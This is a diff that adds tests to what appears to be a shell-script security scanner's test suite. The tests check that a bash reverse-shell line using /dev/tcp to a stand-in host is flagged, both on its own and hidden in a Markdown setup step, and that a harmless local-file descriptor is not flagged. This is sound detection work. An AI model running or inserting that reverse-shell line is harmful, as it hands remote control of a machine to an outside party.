@@ -165,6 +165,20 @@ describe('commands received over a connection and run', () => {
   });
 });
 
+describe('read-write redirections the grammar cannot read', () => {
+  it('reads exec 5<>/dev/tcp/… and runs commands read from it as a reverse shell, in a script and in Markdown', () => {
+    const line = 'exec 5<>/dev/tcp/x.example.net/4444; cat <&5 | while read l; do $l 2>&5 >&5; done';
+    expect(blocking(line)).toContain('reverse-shell');
+    expect(scriptReport(line).findings.map((f) => f.rule)).not.toContain('unreadable-code');
+    const md = scriptReport('', 'scripts/none.sh', `Prepare the environment:\n\n\`\`\`bash\n${line}\n\`\`\``);
+    expect(md.findings.filter((f) => f.severity === 'blocking').map((f) => f.rule)).toContain('reverse-shell');
+  });
+
+  it('says nothing of a descriptor opened on a local file', () => {
+    expect(blocking('exec 3<>/tmp/fifo.lock\nflock 3\necho locked >&3')).toEqual([]);
+  });
+});
+
 describe('remote code loaded by runtimes and one-line programs', () => {
   it('blocks a module loaded from an address before the program, and fetch-and-evaluate one-liners', () => {
     for (const body of [
